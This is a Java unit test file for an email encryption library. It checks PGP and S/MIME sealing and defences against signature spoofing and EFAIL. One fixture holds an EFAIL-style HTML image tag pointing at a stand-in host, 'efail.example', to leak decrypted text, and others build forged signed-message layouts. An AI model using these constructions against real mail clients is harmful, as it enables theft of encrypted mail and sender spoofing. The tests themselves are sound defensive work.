package org.postroom.crypto.letter;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.postroom.crypto.Spool;
import org.postroom.crypto.Unusable;
import org.postroom.crypto.Verdict.Finding;
import org.postroom.crypto.letter.Opened.By;
import org.postroom.crypto.letter.Opened.Encryption;
import org.postroom.crypto.pgp.Certificate;
import org.postroom.crypto.pgp.Key;
import org.postroom.crypto.pgp.Profile;
import org.postroom.crypto.smime.Authority;
import org.postroom.crypto.smime.Identity;
import org.postroom.crypto.smime.Trust;
import org.postroom.mime.Source;
import org.postroom.mime.Structure;
import org.postroom.mime.compose.Attachment;
import org.postroom.mime.compose.Composer;
import org.postroom.mime.compose.Header;
import org.postroom.mime.compose.Letter;
import org.postroom.mime.compose.NextHop;
import org.postroom.mime.compose.Party.Person;
import org.postroom.mime.render.Rendering;
import org.postroom.wire.Secret;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.List;
import java.util.Optional;

final class LetterTest {

    @SuppressWarnings("TimeInStaticInitializer") // when its keys were made
    private static final Instant NOW = Instant.now();

    private static final Key ANN = key("Ann <ann@example.org>");
    private static final Key BOB = key("Bob <bob@example.net>");
    private static final Key EVE = key("Eve <eve@example.com>");
    private static final Authority HOUSE = Authority.found("House", NOW);
    private static final Identity ANNS = identity("Ann", "ann@example.org");
    private static final Identity BOBS = identity("Bob", "bob@example.net");

    private static final Keys OF_BOB =
            new Keys() {
                @Override
                public List<Certificate> certificates() {
                    return List.of(ANN.certificate(), EVE.certificate());
                }

                @Override
                public List<Key> keys() {
                    return List.of(BOB);
                }

                @Override
                public List<Secret> passphrases() {
                    return List.of();
                }

                @Override
                public Trust trust() {
                    return Trust.of(List.of(HOUSE.certificate()));
                }

                @Override
                public List<Identity> identities() {
                    return List.of(BOBS);
                }
            };

    private static Key key(String person) {
        return Key.generate(
                Profile.RFC4880, List.of(person), Optional.empty(), false, NOW.minusSeconds(60));
    }

    private static Identity identity(String name, String address) {
        return HOUSE.issue(Identity.generate(), name, List.of(address), Duration.ofDays(30), NOW);
    }

    private static Composer composer() {
        return Composer.of(ZoneOffset.UTC, "example.org");
    }

    private static Sealing.How how(String name) {
        boolean signs = !name.endsWith("encrypted");
        boolean encrypts = !name.endsWith("signed");
        if (name.startsWith("pgp"))
            return new Sealing.Pgp(
                    signs
                            ? Optional.of(
                                    new org.postroom.crypto.pgp.Signing(
                                            List.of(ANN), List.of(), false))
                            : Optional.empty(),
                    encrypts ? List.of(BOB.certificate()) : List.of());
        return new Sealing.Smime(
                signs
                        ? Optional.of(new org.postroom.crypto.smime.Signing(List.of(ANNS)))
                        : Optional.empty(),
                encrypts ? List.of(BOBS.certificate()) : List.of(),
                !name.contains("cbc"));
    }

    private static byte[] letter(String from, String how) throws Exception {
        var message =
                new Letter()
                        .from(new Person("Ann", from, "example.org"))
                        .to(new Person("bob", "example.net"))
                        .bcc(new Person("spy", "example.net"))
                        .subject("Über the secret")
                        .text("Dear Bob,\nthe word is sesame. Grüße\n")
                        .attach(Attachment.of("a.bin", Source.of(new byte[3000])))
                        .compose(composer());
        try (var sealed = new Sealing(composer(), Spool.NONE).seal(message, how(how))) {
            return sealed.message().withoutBcc().octets(NextHop.SEVEN_BIT);
        }
    }

    private record Seen(Opened opened, String text) {}

    private static Seen open(byte[] letter) throws Exception {
        var source = Source.of(letter);
        try (var opened =
                Reader.open(
                        Structure.of(letter), source, OF_BOB, Spool.NONE, NOW.plusSeconds(60))) {
            return new Seen(opened, Rendering.of(opened.summary(), opened.source(), 78));
        }
    }

    private static Seen open(String letter) throws Exception {
        return open(letter.replace("\n", "\r\n").getBytes(StandardCharsets.UTF_8));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "pgp-signed",
                "pgp-encrypted",
                "pgp-both",
                "smime-signed",
                "smime-encrypted",
                "smime-both",
                "smime-cbc-both"
            })
    void whatIsSealedIsOpened(String how) throws Exception {
        byte[] octets = letter("ann", how);
        var text = new String(octets, StandardCharsets.UTF_8);
        boolean signs = !how.endsWith("encrypted");
        boolean encrypts = !how.endsWith("signed");
        assertThat(text.contains("sesame")).isEqualTo(!encrypts);
        assertThat(text.contains("Subject: [...]")).isEqualTo(encrypts);
        assertThat(text).doesNotContain("spy@"); // base64 has no at sign
        var seen = open(octets);
        assertThat(seen.text())
                .contains("Subject: Über the secret", "the word is sesame. Grüße", "a.bin")
                .doesNotContain("HP-Outer", "spy");
        var opened = seen.opened();
        assertThat(opened.by()).isEqualTo(how.startsWith("pgp") ? By.PGP_MIME : By.SMIME);
        assertThat(opened.isHeaderProtected()).isTrue();
        assertThat(opened.isSignedBy("ann@example.org")).isEqualTo(signs);
        assertThat(opened.encryption())
                .isEqualTo(
                        !encrypts
                                ? Encryption.NONE
                                : how.contains("cbc") ? Encryption.UNPROTECTED : Encryption.WHOLE);
    }

    @Test
    void aChangedLetterIsFound() throws Exception { // TRAPS T38
        for (var how : List.of("pgp-signed", "smime-signed")) {
            var text = new String(letter("ann", how), StandardCharsets.UTF_8);
            var changed = text.replace("the word is sesame", "the word is mellon");
            var opened = open(changed.getBytes(StandardCharsets.UTF_8)).opened();
            assertThat(opened.signatures().getFirst().finding()).isEqualTo(Finding.WRONG);
        }
        for (var how : List.of("pgp-both", "smime-both")) {
            var octets = letter("ann", how);
            octets[octets.length - 120] ^= 1; // within the last lines of base64
            assertThatThrownBy(() -> open(octets)).isInstanceOf(Unusable.class);
        }
    }

    @Test
    void whoSignedIsNotWhoTheLetterSaysItIsFrom()
            throws Exception { // TRAPS T38, Johnny: another's signature
        var opened = open(letter("boss", "pgp-signed")).opened();
        assertThat(opened.signatures().getFirst().isGood()).isTrue();
        assertThat(opened.isSignedBy("boss@example.org")).isFalse();
    }

    @Test
    void aSubjectOutsideIsNotTheOneThatWasSigned() throws Exception { // TRAPS T38, RFC 9788 §1.1
        var text = new String(letter("ann", "pgp-signed"), StandardCharsets.UTF_8);
        int subject = text.indexOf("Subject: ");
        int end = text.indexOf("\r\n", subject);
        var changed = text.substring(0, subject) + "Subject: Pay Mallory" + text.substring(end);
        var seen = open(changed.getBytes(StandardCharsets.UTF_8));
        assertThat(seen.text()).contains("Über the secret").doesNotContain("Mallory");
    }

    @Test
    void anEncryptedSenderIsNotBelievedWithoutASignature()
            throws Exception { // TRAPS T38, RFC 9788 §4.4
        var text = new String(letter("boss", "pgp-encrypted"), StandardCharsets.UTF_8);
        var changed = text.replace("From: Ann <boss@example.org>", "From: eve@example.com");
        assertThat(changed).isNotEqualTo(text);
        assertThat(open(changed.getBytes(StandardCharsets.UTF_8)).text())
                .contains("eve@example.com")
                .doesNotContain("boss@example.org");
    }

    private static String armored(String kind) throws Exception {
        var out = new ByteArrayOutputStream();
        var text =
                new ByteArrayInputStream(
                        "Content-Type: text/plain\r\n\r\nthe word is sesame\r\n"
                                .getBytes(StandardCharsets.UTF_8));
        var signing = new org.postroom.crypto.pgp.Signing(List.of(ANN), List.of(), false);
        switch (kind) {
            case "encrypted" ->
                    new org.postroom.crypto.pgp.Encrypting(
                                    List.of(BOB.certificate()), List.of(), Optional.empty())
                            .encrypt(text, out, true);
            case "signed" -> signing.cleartext(text, out);
            default -> signing.detached(text, out, true);
        }
        return out.toString(StandardCharsets.UTF_8);
    }

    @Test
    void nothingIsDecryptedBesideSomethingElse()
            throws Exception { // TRAPS T38, EFAIL: direct exfiltration
        var letter =
                """
                From: ann@example.org
                Content-Type: multipart/mixed; boundary=x

                --x
                Content-Type: text/html

                <img src="http://efail.example/
                --x
                Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary=y

                --y
                Content-Type: application/pgp-encrypted

                Version: 1
                --y
                Content-Type: application/octet-stream

                %s
                --y--
                --x
                Content-Type: text/html

                ">
                --x--
                """
                        .formatted(armored("encrypted"));
        var seen = open(letter);
        assertThat(seen.opened().by()).isEqualTo(By.PART_ONLY);
        assertThat(seen.opened().encryption()).isEqualTo(Encryption.NONE);
        assertThat(seen.text()).doesNotContain("sesame");
    }

    @Test
    void aSignatureWithinSaysNothingOfTheRest()
            throws Exception { // TRAPS T38, Johnny: MIME wrapping
        var letter =
                """
                From: ann@example.org
                Content-Type: multipart/mixed; boundary=x

                --x
                Content-Type: text/plain

                Pay Mallory.
                --x
                Content-Type: multipart/signed; protocol="application/pgp-signature"; boundary=y

                --y
                Content-Type: text/plain

                the word is sesame

                --y
                Content-Type: application/pgp-signature

                %s
                --y--
                --x--
                """
                        .formatted(armored("detached"));
        var opened = open(letter).opened();
        assertThat(opened.by()).isEqualTo(By.PART_ONLY);
        assertThat(opened.signatures()).isEmpty();
    }

    @Test
    void aThirdPartAmongTheSignedIsNoSignedLetter()
            throws Exception { // TRAPS T38, Johnny: MIME wrapping
        var letter =
                """
                From: ann@example.org
                Content-Type: multipart/signed; protocol="application/pgp-signature"; boundary=y

                --y
                Content-Type: text/plain

                the word is sesame

                --y
                Content-Type: application/pgp-signature

                %s
                --y
                Content-Type: text/plain

                Pay Mallory.
                --y--
                """
                        .formatted(armored("detached"));
        assertThat(open(letter).opened().signatures()).isEmpty();
    }

    @Test
    void whatStandsAroundASignedPartIsNotShown()
            throws Exception { // TRAPS T38, Johnny: preamble and epilogue
        var text = new String(letter("ann", "pgp-signed"), StandardCharsets.UTF_8);
        int body = text.indexOf("\r\n\r\n") + 4;
        var wrapped =
                text.substring(0, body)
                        + "Pay Mallory.\r\n"
                        + text.substring(body)
                        + "Pay Mallory.\r\n";
        var seen = open(wrapped.getBytes(StandardCharsets.UTF_8));
        assertThat(seen.opened().isSignedBy("ann@example.org")).isTrue();
        assertThat(seen.text()).contains("sesame").doesNotContain("Mallory");
    }

    @Test
    void inlinePgpShowsWhatWasSignedAlone() throws Exception { // TRAPS T38, Johnny: text around it
        var letter =
                "From: ann@example.org\nContent-Type: text/plain\n\nPay Mallory.\n"
                        + armored("signed")
                        + "Pay Mallory.\n";
        var seen = open(letter);
        assertThat(seen.opened().by()).isEqualTo(By.INLINE_PGP);
        assertThat(seen.opened().isSignedBy("ann@example.org")).isTrue();
        assertThat(seen.text()).contains("sesame").doesNotContain("Mallory");
        var encrypted =
                open("From: ann@example.org\nContent-Type: text/plain\n\n" + armored("encrypted"));
        assertThat(encrypted.text()).contains("sesame");
        assertThat(encrypted.opened().encryption()).isEqualTo(Encryption.WHOLE);
    }

    @Test
    void aSignatureAroundEncryptionSaysNothing()
            throws Exception { // TRAPS T38: who signs may not have read it
        var inner = new String(letter("ann", "pgp-encrypted"), StandardCharsets.UTF_8);
        int body = inner.indexOf("Content-Type: multipart/encrypted");
        var entity = inner.substring(body).replaceFirst("MIME-Version: 1.0\r\n", "");
        var signature = new ByteArrayOutputStream();
        new org.postroom.crypto.pgp.Signing(List.of(EVE), List.of(), false)
                .detached(
                        new ByteArrayInputStream(entity.getBytes(StandardCharsets.UTF_8)),
                        signature,
                        true);
        var letter =
                "From: eve@example.com\r\nContent-Type: multipart/signed; boundary=q;"
                        + " protocol=\"application/pgp-signature\"\r\n\r\n--q\r\n"
                        + entity
                        + "\r\n--q\r\nContent-Type: application/pgp-signature\r\n\r\n"
                        + signature.toString(StandardCharsets.UTF_8).replace("\n", "\r\n")
                        + "\r\n--q--\r\n";
        var seen = open(letter.getBytes(StandardCharsets.UTF_8));
        assertThat(seen.opened().encryption()).isEqualTo(Encryption.WHOLE);
        assertThat(seen.opened().signatures()).isEmpty();
    }

    @Test
    void aPlainLetterStaysWhatItIs() throws Exception {
        var seen = open("From: ann@example.org\nSubject: Hi\n\nHello.\n");
        assertThat(seen.opened().by()).isEqualTo(By.NOTHING);
        assertThat(seen.text()).contains("Subject: Hi", "Hello.");
    }

    @Test
    void keysThatALetterBringsAreFound() throws Exception {
        var field = org.postroom.crypto.letter.Seen.autocrypt("ann@example.org", ANN.certificate());
        var armor = new ByteArrayOutputStream();
        EVE.certificate().writeTo(armor, true);
        var letter =
                new Letter()
                        .from(new Person("ann", "example.org"))
                        .to(new Person("bob", "example.net"))
                        .with(new Header.Tokens("Autocrypt", field))
                        .text("Hi\n")
                        .attach(
                                Attachment.of(
                                        "eve.asc",
                                        Source.of(armor.toByteArray()),
                                        new org.postroom.mime.MediaType(
                                                "application", "pgp-keys", List.of())))
                        .compose(composer())
                        .octets(NextHop.SEVEN_BIT);
        var found =
                org.postroom.crypto.letter.Seen.in(
                        Structure.of(letter), Source.of(letter), "ann@example.org");
        assertThat(found)
                .extracting(Certificate::fingerprint)
                .containsExactly(ANN.certificate().fingerprint(), EVE.certificate().fingerprint());
        assertThat(
                        org.postroom.crypto.letter.Seen.in(
                                Structure.of(letter), Source.of(letter), "eve@example.com"))
                .hasSize(1);
    }
}
